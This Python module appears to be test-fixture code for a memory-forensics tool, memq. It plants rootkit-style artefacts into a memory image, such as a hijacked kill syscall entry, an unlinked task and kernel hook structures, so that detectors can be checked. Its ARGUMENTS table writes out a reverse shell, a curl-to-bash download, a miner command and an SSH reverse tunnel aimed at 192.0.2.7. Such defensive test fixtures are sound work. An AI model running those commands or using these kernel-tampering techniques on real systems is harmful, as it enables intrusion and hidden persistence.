"""The sample with things in it that its guest never had: bytes changed where the structures are.

Each thing is made as a kernel would have made it: a list, a name, a pointer, the arguments in the
memory of a process. Where these are, memq itself says of the sample as it is.
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Any

import numpy as np

from memq.errors import Reason

if TYPE_CHECKING:
    from collections.abc import Mapping

    from memq.image import Image

PAGE = 4096
VM_EXEC = 4
TAINT_PROPRIETARY, TAINT_OUT_OF_TREE, TAINT_UNSIGNED = 1 << 0, 1 << 12, 1 << 13
KILL = 62
OUTSIDE = (0xFFFF_FFFF_FF00_1000, 0xFFFF_FFFF_FF00_2000, 0xFFFF_FFFF_FF00_3000)
"""Where no code of the kernel is."""

ARGUMENTS = {
    "scenario": "/bin/bash /tmp/lab/scenario.sh",
    "long-cmdline": "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    "namespace-unshare": "sh -c curl -fsSL http://192.0.2.7/x | bash",
    "python-runuser": "runuser -o stratum+tcp://192.0.2.7:3333 -u wallet -p x",
    "heap-runuser": "ssh -N -R 2222:localhost:22 u@192.0.2.7",
}
"""Command lines that are planted, by the process that gets them."""


class Planter:
    """Where in physical memory something is, and the bytes that are to stand there instead."""

    def __init__(self, image: Image, pids: Mapping[str, int]) -> None:
        self.image = image
        self.pids = {"scenario": 218, "login": 199, "shell": 260, "python": 357, **pids}
        self.changes: dict[int, bytes] = {}

    def ask(self, query: str) -> Any:
        """Return the first row of an answer."""
        return next(iter(self.image.query(query).rows()))

    def at(self, query: str) -> int:
        """Return the address that is an answer's first row."""
        found = self.ask(query)
        return int(found, 0) if isinstance(found, str) else int(found)

    def of(self, who: str, expression: str) -> int:
        """Return an address that a process has."""
        return self.at(f"process.Where(pid == {self.pids[who]}).Select({expression})")

    def place(self, address: int, root: int | None = None) -> int:
        """Return the physical address; with `root` that of a process's own memory."""
        space = self.image.kernel.space
        if root is None:
            found = space.translate(address)
            assert not isinstance(found, Reason), hex(address)
            return int(found)
        places, status = space.translate_many(
            np.array([address], np.uint64), np.array([root], np.uint64)
        )
        assert not status[0], hex(address)
        return int(places[0])

    def put(self, address: int, data: bytes, root: int | None = None) -> None:
        """Have bytes stand at an address, page by page."""
        while data:
            fits = PAGE - address % PAGE
            self.changes[self.place(address, root)] = data[:fits]
            address, data = address + fits, data[fits:]

    def pointer(self, address: int, value: int) -> None:
        """Have a number of 64 bits stand at an address."""
        self.put(address, struct.pack("<Q", value))

    def rename(self, dentry: int, name: str, parent: int | None = None) -> None:
        """Give a directory's entry another short name, and another directory."""
        member = f'cast("dentry", {dentry})'
        own = self.at(f"kernel.Select(addressof({member}.d_iname))")
        self.put(own, name.encode() + b"\0")
        self.put(
            self.at(f"kernel.Select(addressof({member}.d_name.len))"), struct.pack("<I", len(name))
        )
        if parent is not None:
            self.pointer(self.at(f"kernel.Select(addressof({member}.d_parent))"), parent)

    def call(self, who: str, name: str) -> None:
        """Give a process another name."""
        self.put(self.of(who, "addressof(raw.comm)"), name.encode().ljust(16, b"\0"))

    def give_arguments(self, who: str, line: str) -> None:
        """Write other arguments over those of a process."""
        start, end = self.of(who, "raw.mm.arg_start"), self.of(who, "raw.mm.arg_end")
        data = line.replace(" ", "\0").encode()
        assert len(data) < end - start, who
        self.put(start, data.ljust(end - start, b"\0"), self.of(who, "dtb"))

    def mapping(self, who: str, which: str, member: str) -> int:
        """Return the address of a member of a mapping's structure."""
        query = f"vad.Where(process.pid == {self.pids[who]} && {which})"
        return self.at(f"{query}.Select(addressof(raw.{member}))")

    def mapped(self, who: str, which: str) -> int:
        """Return the file that a mapping is of."""
        return self.at(f"vad.Where(process.pid == {self.pids[who]} && {which}).Select(raw.vm_file)")

    def entry(self, which: str, expression: str = "raw.f_path.dentry") -> int:
        """Return the directory's entry of an open file."""
        return self.at(f"handle.Where({which}).Select({expression})")


def plant(image: Image, pids: Mapping[str, int]) -> dict[int, bytes]:
    """Return all changes, by physical address."""
    planter = Planter(image, pids)
    for part in (_memory, _files, _families, _names, _kernel, _hooks):
        part(planter)
    for who, line in ARGUMENTS.items():
        planter.give_arguments(who, line)
    return planter.changes


def _memory(planter: Planter) -> None:
    """Mappings: a stack that may be executed, and files mapped that others have."""
    stack = planter.mapping("tcp-listen", 'name == "[stack]"', "vm_flags")
    flags = planter.ask(
        f"vad.Where(process.pid == {planter.pids['tcp-listen']} && name == '[stack]')"
        ".Select(raw.vm_flags)"
    )
    planter.pointer(stack, flags | VM_EXEC)
    code = "is_executable && file_name != null"
    for who, owner in {"tcp6-listen": "fileless", "env": "deleted-exe"}.items():
        planter.pointer(planter.mapping(who, code, "vm_file"), planter.mapped(owner, code))
    shared = planter.mapping("shm", 'file_name.EndsWith("mapped.dat")', "vm_file")
    planter.pointer(shared, planter.entry('kind == "socket" && process.name == "sshd"', "address"))


def _files(planter: Planter) -> None:
    """Open files: the memory of another process, passwords, a keyboard, a socket as terminal."""
    planter.rename(planter.entry('name == "/proc/1/mountinfo"'), "mem")
    planter.rename(
        planter.entry('name == "/var/lib/lab/a.log"'), "shadow", planter.entry('name == "/etc"')
    )
    mountpoint = 'container_of(raw.f_path.mnt, "mount", "mnt").mnt_mountpoint'
    folder = planter.entry('name == "/var/lib/lab/b.dat"', "raw.f_path.dentry.d_parent")
    planter.rename(folder, "input", planter.entry('name == "/dev/null"', mountpoint))
    planter.rename(planter.entry('name == "/var/lib/lab/b.dat"'), "event0")
    socket = planter.entry('kind == "socket" && process.name == "sshd"', "address")
    for who in ("shell", "python"):
        planter.put(planter.of(who, "raw.files.fdt.fd"), struct.pack("<3Q", socket, socket, socket))


def _families(planter: Planter) -> None:
    """Parents, users, credentials, and a process that is off the list of tasks."""
    for child, parent in {"sigmask": "kthreadd", "python": "sshd"}.items():
        address = planter.at(f'process.Where(name == "{parent}").Select(address)')
        planter.pointer(planter.of(child, "addressof(raw.real_parent)"), address)
    planter.put(planter.of("pipe-parent", "addressof(raw.real_cred.uid)"), struct.pack("<I", 1000))
    planter.pointer(
        planter.of("to-share-cred", "addressof(raw.cred)"), planter.image.kernel.symbol("init_cred")
    )
    after, before = planter.of("bpf", "raw.tasks.next"), planter.of("bpf", "raw.tasks.prev")
    planter.pointer(before, after)
    planter.pointer(after + 8, before)


def _names(planter: Planter) -> None:
    """Names of processes, and of a folder of programs."""
    names = {"udp": "sshd", "python": "cron", "login": "nginx", "heap-runuser": "ssh"}
    for who, name in names.items():
        planter.call(who, name)
    planter.rename(planter.of("to-hide", "raw.mm.exe_file.f_path.dentry.d_parent"), ".lb")


def _kernel(planter: Planter) -> None:
    """A system call that leads into a module, a module that taints, and taints that none has."""
    module = planter.at('driver.Where(name == "dummy").Select(base)')
    planter.pointer(planter.image.kernel.symbol("sys_call_table") + 8 * KILL, module + 0x10)
    taints = planter.at('driver.Where(name == "dummy").Select(addressof(raw.taints))')
    planter.pointer(taints, TAINT_PROPRIETARY)
    mask = planter.image.kernel.symbol("tainted_mask")
    planter.pointer(mask, TAINT_OUT_OF_TREE | TAINT_UNSIGNED)


def long_hooks(image: Image, pids: Mapping[str, int]) -> dict[int, bytes]:
    """Return the changes that make the kernel's own functions hear keys, and so on, without end."""
    planter = Planter(image, pids)
    own = image.kernel.symbol("_text") + PAGE
    _hooks(planter, (own, own, own), is_long=True)
    return planter.changes


def _hooks(
    planter: Planter, functions: tuple[int, int, int] = OUTSIDE, *, is_long: bool = False
) -> None:
    """Functions of nobody, in structures that stand in a process's memory."""
    own = planter.of("rwx", "vad.Where(is_writable && is_executable).First().start") + PAGE // 2
    place = planter.place(own, planter.of("rwx", "dtb"))
    address = place + planter.at('kernel.Select(cast("unsigned long", symbol("page_offset_base")))')
    before = planter.at('kernel.Select(cast("unsigned long", symbol("ftrace_ops_list")))')
    ends = (
        planter.at(
            "kernel.Select(addressof("
            'cast("struct atomic_notifier_head", symbol("keyboard_notifier_list")).head))'
        ),
        planter.image.kernel.symbol("ftrace_ops_list"),
        planter.at(
            'kernel.Select(addressof(cast("struct net", symbol("init_net")).nf.hooks_ipv4[1]))'
        ),
    )
    # A notifier_block, an ftrace_ops with the next one, nf_hook_entries with one of them.
    following = (address, address + 16, 17) if is_long else (0, before, 1)
    keys, traced, packets = functions
    made = struct.pack("<6Q", keys, following[0], traced, following[1], following[2], packets)
    planter.changes[place] = made.ljust(PAGE // 8, b"\0")
    for number, end in enumerate(ends):
        planter.pointer(end, address + 16 * number)
